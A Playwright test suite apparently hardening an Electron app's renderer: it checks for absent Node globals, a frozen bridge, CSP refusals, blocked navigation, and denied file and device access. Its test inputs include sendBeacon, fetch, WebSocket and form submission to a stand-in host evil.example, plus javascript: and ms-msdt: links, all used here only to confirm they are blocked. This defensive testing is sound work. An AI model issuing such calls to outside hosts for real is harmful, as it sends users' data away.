import { expect, test } from '@playwright/test';
import { appUrl, recorded, type RunningApp } from '../../support/launch-app.ts';
import { cardUrl, expectUnmoved, mainUrl, start, violations, watchPolicy } from './security-fixture.ts';

// One app for the whole file: none of these tests may change it, that is what they prove.
let running: Awaited<ReturnType<typeof start>>;
test.beforeAll(async () => {
  running = await start();
});
test.afterAll(() => (running as RunningApp).close());

test.describe('a page', () => {
  test('knows nothing of Node and Electron @real-binary', async () => {
    const known = await running.main.evaluate(() =>
      [
        'require',
        'process',
        'module',
        'exports',
        'global',
        'Buffer',
        'electron',
        'ipcRenderer',
        '__dirname',
      ].filter((name) => name in window),
    );
    expect(known).toEqual([]);
  });

  test('has one bridge of named functions that it cannot change @real-binary', async () => {
    const bridge = await running.main.evaluate(() => {
      const { companion } = window;
      const kinds = Object.values(companion).flatMap((part) =>
        Object.values(part).map((entry) => typeof entry),
      );
      const frozen = [companion, companion.send, companion.ask, companion.on].map((part) =>
        Object.isFrozen(part),
      );
      try {
        Object.assign(window, { companion: {} });
      } catch {
        // In strict code the attempt throws; either way the bridge must still be the same.
      }
      const replaced = window.companion !== companion;
      return { parts: Object.keys(companion), kinds: [...new Set(kinds)], frozen, replaced };
    });
    expect(bridge).toEqual({
      parts: ['send', 'ask', 'on'],
      kinds: ['function'],
      frozen: [true, true, true, true],
      replaced: false,
    });
  });

  test('runs in the sandbox, isolated, without developer tools @real-binary', async () => {
    const preferences = await running.app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map((window) => window.webContents.isDevToolsOpened()),
    );
    expect(preferences).not.toContain(true);
  });

  const refused: readonly (readonly [string, string, () => unknown])[] = [
    [
      'an inline script',
      // Trusted Types refuse its text before the script policy is asked.
      'require-trusted-types-for',
      () => {
        const script = document.createElement('script');
        script.append('window.ran = true');
        document.head.append(script);
      },
    ],
    [
      'an inline handler',
      'require-trusted-types-for',
      () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.ran = true');
        document.body.append(button);
        button.click();
        button.remove();
      },
    ],
    [
      'an inline style',
      'style-src-attr',
      () => {
        const text = document.createElement('p');
        text.setAttribute('style', 'position: fixed');
        document.body.append(text);
        text.remove();
      },
    ],
    [
      'a style sheet of its own making',
      'style-src-elem',
      () => {
        const style = document.createElement('style');
        style.append('body { display: none }');
        document.head.append(style);
      },
    ],
    [
      'markup from text',
      'require-trusted-types-for',
      () => (document.createElement('p').innerHTML = '<b>x</b>'),
    ],
    ['a picture from elsewhere', 'img-src', () => (new Image().src = 'https://evil.example/x.png')],
    ['a request', 'connect-src', () => void fetch('https://evil.example/').catch(() => undefined)],
    ['a request to itself', 'connect-src', () => void fetch('/index.html').catch(() => undefined)],
    ['a socket', 'connect-src', () => new WebSocket('wss://evil.example/')],
    ['a beacon', 'connect-src', () => navigator.sendBeacon('https://evil.example/', 'x')],
    [
      'a frame',
      'frame-src',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
      },
    ],
    [
      'an object',
      'require-trusted-types-for',
      () => {
        const object = document.createElement('object');
        object.data = 'https://evil.example/x';
        document.body.append(object);
      },
    ],
    [
      'a base address',
      'base-uri',
      () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      },
    ],
    [
      'a form sent away',
      'form-action',
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      },
    ],
  ];
  for (const [name, directive, attempt] of refused) {
    test(`may not have ${name} @real-binary`, async () => {
      await watchPolicy(running.main);
      // An exception is as good a refusal as a silent one; the report is what counts.
      await running.main.evaluate(attempt).catch(() => undefined);
      await expect.poll(() => violations(running.main)).toContain(directive);
      expect(await running.main.evaluate(() => 'ran' in window)).toBe(false);
      await expectUnmoved(running, running.main);
    });
  }

  const schemes = [
    ...[
      'https://evil.example/',
      'http://evil.example/',
      'file:///etc/hosts',
      'app://main/call-card/index.html',
    ],
    ...['app://other/index.html', 'data:text/html,x', 'tel:+14155550177', 'mailto:a@b.example'],
    ...['sms:+14155550177', 'javascript:void(window.ran=1)', 'ms-msdt:/id', 'ringside://x'],
  ];
  for (const address of schemes) {
    test(`goes nowhere by a link to ${address} @real-binary`, async () => {
      await running.main.evaluate((href) => {
        const link = document.createElement('a');
        link.href = href;
        link.append('away');
        document.body.append(link);
        link.click();
        link.target = '_blank';
        link.click();
        link.remove();
      }, address);
      await running.main.waitForTimeout(60);
      expect(appUrl(running.main)).toBe(mainUrl);
      await expectUnmoved(running, running.main);
      expect((await recorded(running.app)).external).toEqual([]);
    });
  }

  test('goes nowhere by script and opens no window @real-binary', async () => {
    await running.main.evaluate(() => {
      window.open('https://evil.example/', 'named', 'width=200,height=200');
      window.open('app://main/index.html');
      location.href = 'https://evil.example/';
    });
    await running.main.waitForTimeout(100);
    expect(appUrl(running.main)).toBe(mainUrl);
    await expectUnmoved(running, running.main);
  });

  test('reads no file of this computer @real-binary', async () => {
    const seen = await running.main.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const image = new Image();
          image.onload = () => resolve('loaded');
          image.onerror = () => resolve('refused');
          image.src = 'file:///usr/share/pixmaps/debian-logo.png';
        }),
    );
    expect(seen).toBe('refused');
  });

  test('gets no camera, place, screen or clipboard @real-binary', async () => {
    const outcomes = await running.main.evaluate(async () => {
      const ask = (work: Promise<unknown> | undefined): Promise<string> =>
        work === undefined
          ? Promise.resolve('absent')
          : work.then(
              () => 'granted',
              () => 'refused',
            );
      const place = new Promise((resolve, reject) =>
        navigator.geolocation.getCurrentPosition(resolve, reject),
      );
      const devices = navigator.mediaDevices as MediaDevices | undefined;
      return Promise.all([
        ask(devices?.getUserMedia({ audio: true })),
        ask(devices?.getUserMedia({ video: true })),
        ask(place),
        ask(navigator.clipboard.readText()),
      ]);
    });
    expect(outcomes).not.toContain('granted');
  });

  test('is served with the policy, each of its scripts too @real-binary', async () => {
    const headers: Record<string, string | undefined> = {};
    const hear = (response: { url: () => string; headers: () => Record<string, string> }): void => {
      headers[response.url()] = response.headers()['content-security-policy'];
    };
    running.main.on('response', hear);
    await running.app.evaluate(({ BrowserWindow }) => {
      for (const window of BrowserWindow.getAllWindows()) window.webContents.reload();
    });
    await expect
      .poll(() => Object.keys(headers).filter((url) => /\.js$/.test(url)).length)
      .toBeGreaterThan(0);
    await expect.poll(() => Object.keys(headers).length).toBeGreaterThan(2);
    running.main.off('response', hear);
    for (const [url, policy] of Object.entries(headers)) expect(policy, url).toContain("default-src 'none'");
  });

  test('of the card is held the same way @real-binary', async () => {
    const card = await running.window(cardUrl);
    await watchPolicy(card);
    await card.evaluate(() => void fetch('https://evil.example/').catch(() => undefined));
    await expect.poll(() => violations(card)).toContain('connect-src');
  });
});

test('a page that floods the bridge leaves the app quick, and is heard again later @real-binary', async () => {
  test.setTimeout(90_000);
  await running.main.evaluate(() => {
    for (let sent = 0; sent < 3_000; sent++) window.companion.send.markCallsSeen();
  });
  const before = Date.now();
  await running.app.evaluate(() => process.pid);
  expect(Date.now() - before).toBeLessThan(2_000);
  const ask = () =>
    running.main.evaluate(() =>
      window.companion.ask.currentState().then(
        (state) => typeof state,
        () => 'refused',
      ),
    );
  // Each message crosses two processes and a pipe on the stand-in: on a busy machine the flood takes long to arrive.
  await expect.poll(ask, { timeout: 60_000 }).toBe('object');
});
